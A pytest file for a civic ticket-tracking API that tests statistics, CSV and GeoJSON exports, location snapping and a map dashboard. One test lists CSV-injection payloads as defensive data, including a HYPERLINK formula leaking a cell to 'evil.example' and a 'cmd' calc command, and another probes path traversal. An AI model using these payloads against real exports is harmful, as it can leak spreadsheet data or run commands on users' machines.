"""/v1/stats (counts, medians, service-level compliance, weekly trend), the bulk exports and
the district outlines."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import httpx
import pytest
from sqlalchemy.ext.asyncio import AsyncSession

from app.jurisdictions.models import Jurisdiction, Service
from app.maps.queries import CSV_COLUMNS
from geo.distance import haversine_m, offset_lonlat
from tests.factories import make_jurisdiction, make_service
from tests.maps_data import CENTER, NOW, add_ticket

HOUR = timedelta(hours=1)


@pytest.fixture
async def city(db: AsyncSession) -> Jurisdiction:
    return await make_jurisdiction(db, slug="statstown")


@pytest.fixture
async def pothole(db: AsyncSession, city: Jurisdiction) -> Service:
    return await make_service(db, city, "pothole")


@pytest.fixture
async def streetlight(db: AsyncSession, city: Jurisdiction) -> Service:
    return await make_service(db, city, "streetlight")


async def test_stats_counts_medians_compliance_and_trend(
    client: httpx.AsyncClient,
    db: AsyncSession,
    city: Jurisdiction,
    pothole: Service,
    streetlight: Service,
) -> None:
    start = NOW - timedelta(days=20)
    # Acknowledged after 10 h and 30 h (due after 48 h: both in time), fixed after 5 and
    # 20 days (due after 14 days: one late).
    await add_ticket(
        db, city, pothole, *CENTER, status="fixed", reported_at=start,
        acknowledged_at=start + 10 * HOUR, fixed_at=start + timedelta(days=5),
    )  # fmt: skip
    await add_ticket(
        db, city, pothole, *offset_lonlat(*CENTER, 40, 0), status="closed", reported_at=start,
        acknowledged_at=start + 30 * HOUR, fixed_at=start + timedelta(days=20),
    )  # fmt: skip
    # Never acknowledged and long overdue: counts against both levels.
    await add_ticket(db, city, streetlight, *offset_lonlat(*CENTER, 0, 40), reported_at=start)
    # Rejected: counted, but no service level applies.
    await add_ticket(
        db, city, streetlight, *offset_lonlat(*CENTER, 0, 80), status="rejected", reported_at=start
    )
    # Brand new: nothing is due yet.
    await add_ticket(db, city, pothole, *offset_lonlat(*CENTER, 80, 0), reported_at=NOW)

    response = await client.get("/v1/stats", params={"jurisdiction": "statstown", "weeks": 2})
    assert response.status_code == 200, response.text
    assert response.headers["etag"]
    stats = response.json()
    assert stats["tickets"] == 5
    assert stats["by_status"] == {"closed": 1, "fixed": 1, "open": 2, "rejected": 1}
    assert stats["by_area"] == [{"area_code": "D01", "area_name": "Old Town", "tickets": 5}]
    assert stats["median_seconds_to_acknowledge"] == 20 * 3600
    assert stats["median_seconds_to_fix"] == pytest.approx(12.5 * 86400)
    assert stats["service_level_measured"] == {"acknowledge": 3, "fix": 3}
    assert stats["acknowledged_in_time_percent"] == pytest.approx(66.7)
    assert stats["fixed_in_time_percent"] == pytest.approx(33.3)
    services = {s["service_code"]: s for s in stats["by_service"]}
    assert services["pothole"]["tickets"] == 3
    assert services["pothole"]["fixed_in_time_percent"] == 50.0
    assert services["streetlight"]["acknowledged_in_time_percent"] == 0.0
    weekly = stats["weekly"]
    # This week and last: the brand new ticket opened, and the late fix (today) happened.
    assert len(weekly) == 2
    assert weekly[-1]["opened"] == 1
    assert sum(w["opened"] for w in weekly) == 1  # the others opened 20 days ago
    assert sum(w["fixed"] for w in weekly) == 1  # the other fix was 15 days ago
    filtered = await client.get(
        "/v1/stats", params={"jurisdiction": "statstown", "service": "streetlight"}
    )
    assert filtered.json()["tickets"] == 2


async def test_stats_are_cached_briefly(
    client: httpx.AsyncClient, db: AsyncSession, city: Jurisdiction, pothole: Service
) -> None:
    await add_ticket(db, city, pothole, *CENTER)
    first = (await client.get("/v1/stats", params={"jurisdiction": "statstown"})).json()
    await add_ticket(db, city, pothole, *offset_lonlat(*CENTER, 50, 0))
    cached = (await client.get("/v1/stats", params={"jurisdiction": "statstown"})).json()
    assert cached["tickets"] == first["tickets"] == 1


async def test_csv_export_quotes_and_streams_every_ticket(
    client: httpx.AsyncClient, db: AsyncSession, city: Jurisdiction, pothole: Service
) -> None:
    tricky = 'Hole, "deep"\nnext to the lamp'
    for i in range(12):
        await add_ticket(db, city, pothole, *offset_lonlat(*CENTER, i * 30, 0), description=tricky)
    response = await client.get("/v1/export/tickets.csv", params={"jurisdiction": "statstown"})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert len(rows) == 12
    assert all(r["description"] == tricky for r in rows)
    assert float(rows[0]["lon"]) == pytest.approx(CENTER[0], abs=1e-6)
    assert rows[0]["created_at"].endswith("Z")


async def test_csv_export_defuses_formulas(
    client: httpx.AsyncClient, db: AsyncSession, city: Jurisdiction, pothole: Service
) -> None:
    # A spreadsheet runs a cell that starts with one of these as a formula (OWASP "CSV
    # injection"); the export prefixes such cells with an apostrophe, which shows as text.
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\tleading tab",
        "\rleading return",
    ]
    plain = ["Pothole - deep", "1 = 1"]
    for i, description in enumerate(hostile + plain):
        await add_ticket(
            db, city, pothole, *offset_lonlat(*CENTER, i * 30, 0), description=description
        )
    response = await client.get("/v1/export/tickets.csv", params={"jurisdiction": "statstown"})
    assert response.status_code == 200
    descriptions = [r["description"] for r in csv.DictReader(io.StringIO(response.text))]
    assert sorted(descriptions) == sorted(["'" + d for d in hostile] + plain)


async def test_geojson_export_is_one_valid_collection_with_snapped_points(
    client: httpx.AsyncClient,
    db: AsyncSession,
    city: Jurisdiction,
    pothole: Service,
    app: object,
) -> None:
    app.state.settings = app.state.settings.model_copy(  # type: ignore[attr-defined]
        update={"map_export_batch_rows": 100}
    )
    hidden = await make_service(db, city, "shelter", public_location_snap_m=300)
    lon, lat = offset_lonlat(*CENTER, 91, 47)
    for i in range(250):
        await add_ticket(db, city, pothole, *offset_lonlat(*CENTER, i, 0))
    secret = await add_ticket(db, city, hidden, lon, lat)
    response = await client.get(
        "/v1/export/tickets.geojson",
        params={"jurisdiction": "statstown"},
        headers={"Accept-Encoding": "gzip"},
    )
    assert response.status_code == 200
    assert response.headers["content-encoding"] == "gzip"
    doc = json.loads(response.content)
    assert doc["type"] == "FeatureCollection"
    assert len(doc["features"]) == 251
    feature = next(f for f in doc["features"] if f["id"] == secret.reference)
    assert haversine_m(lon, lat, *feature["geometry"]["coordinates"]) > 5
    only = await client.get(
        "/v1/export/tickets.geojson", params={"service": "shelter", "jurisdiction": "statstown"}
    )
    assert [f["id"] for f in only.json()["features"]] == [secret.reference]
    empty = await client.get("/v1/export/tickets.geojson", params={"jurisdiction": "none"})
    assert empty.json() == {"type": "FeatureCollection", "features": []}


@pytest.mark.usefixtures("city")
async def test_areas_outline(client: httpx.AsyncClient) -> None:
    response = await client.get("/v1/areas.geojson", params={"jurisdiction": "statstown"})
    assert response.status_code == 200
    doc = response.json()
    assert len(doc["features"]) == 8
    assert doc["features"][0]["geometry"]["type"] in ("Polygon", "MultiPolygon")
    assert doc["features"][0]["properties"]["code"] == "D01"


async def test_dashboard_page_and_its_files(client: httpx.AsyncClient) -> None:
    page = await client.get("/maps")
    assert page.status_code == 200
    assert "maplibre-gl.js" in page.text
    for name in ("maplibre-gl.js", "maplibre-gl.css", "dashboard.js", "maplibre-gl.LICENSE.txt"):
        response = await client.get(f"/maps/static/{name}")
        assert response.status_code == 200, name
    assert (await client.get("/maps/static/..%2Fqueries.py")).status_code == 404
    assert "unpkg" not in page.text
    assert "cdn" not in page.text.lower()
